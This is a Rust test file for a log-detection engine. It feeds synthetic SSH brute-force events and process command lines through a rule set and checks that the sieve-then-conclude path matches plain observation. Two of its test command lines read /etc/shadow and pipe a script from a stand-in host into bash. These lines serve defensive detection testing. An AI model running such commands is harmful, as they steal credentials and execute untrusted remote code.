//! Both halves together against the whole.

use watchpost_model::event::{Auth, Log, Process};
use watchpost_model::{Event, Kind, field};

use super::*;
use crate::pack::Source;

fn set() -> RuleSet {
    let shipped = crate::shipped::shipped();
    let keyword = Source {
        name: "keyword.yml".into(),
        text: "title: Any word\nid: any\nlogsource:\n  product: linux\ndetection:\n  k: [shadow]\n  condition: k\n"
            .into(),
    };
    RuleSet::load(&shipped.into_iter().chain([keyword]).collect::<Vec<_>>())
}

/// Logins, guesses and commands, some of which wake rules and fill windows.
fn events() -> Vec<Event> {
    let mut events = Vec::new();
    for second in 0..120_i64 {
        let time = Timestamp::from_parts(1_700_000_000 + second, 0);
        let message = format!("Failed password for root from 203.0.113.{} port 22 ssh2", second % 3);
        let log = Log { time, provider: "sshd".into(), original: message.clone(), message };
        let mut login = Event::from(Auth {
            log,
            action: "ssh_login",
            outcome: if second % 40 == 39 { "success" } else { "failure" },
            user: "root".into(),
            source_ip: format!("203.0.113.{}", second % 3).parse().ok(),
            ..Auth::default()
        });
        login.record.set(field::AUTH_METHOD, "password");
        events.push(login);
        let line = ["date", "cat /etc/shadow", "curl -s http://a.example/x | bash"]
            [second.unsigned_abs() as usize % 3];
        let executable = "/usr/bin/bash".to_owned();
        events.push(Event::from(Process {
            time,
            pid: 7,
            executable,
            command_line: line.into(),
            ..Process::default()
        }));
        events.push(Event::new(Kind::File, time));
    }
    events
}

fn told(findings: &[Finding]) -> Vec<String> {
    let one = |found: &Finding| {
        let Finding { rule, time, matched, group, events, count, .. } = found;
        format!("{} {time} {matched:?} {group:?} {events:?} {count:?}", rule.meta.id)
    };
    findings.iter().map(one).collect()
}

#[test]
fn what_is_sifted_first_and_concluded_later_is_what_observing_finds() {
    let set = set();
    let (mut whole, mut later, mut sieve) = (Detector::new(&set), Detector::new(&set), Sieve::new(&set));
    let (mut quiet, mut found) = (0, 0);
    for (index, event) in (0..).zip(&events()) {
        let (subject, at) = (Subject::Typed(event), EventRef { frame: 1, index });
        let expected = told(&whole.observe(&subject, at, event.time));
        let sifted = sieve.sift(&subject);
        found += expected.len();
        if sifted.is_quiet() {
            quiet += 1;
            assert_eq!(expected, [""; 0], "a quiet event finds nothing");
        } else {
            assert_eq!(told(&later.conclude(&subject, at, event.time, &sifted)), expected);
        }
    }
    assert!(quiet > 100 && found > 50, "{quiet} quiet, {found} found");
    assert_eq!(whole.counters().findings, later.counters().findings);
}

#[test]
fn a_plain_detector_concludes_by_observing_itself() {
    let set = set();
    let (mut whole, mut plain, mut sieve) = (Detector::new(&set), Detector::plain(&set), Sieve::new(&set));
    for (index, event) in (0..).zip(events().iter().take(30)) {
        let (subject, at) = (Subject::Typed(event), EventRef { frame: 1, index });
        let sifted = sieve.sift(&subject);
        let expected = told(&whole.observe(&subject, at, event.time));
        assert_eq!(told(&plain.conclude(&subject, at, event.time, &sifted)), expected);
    }
}
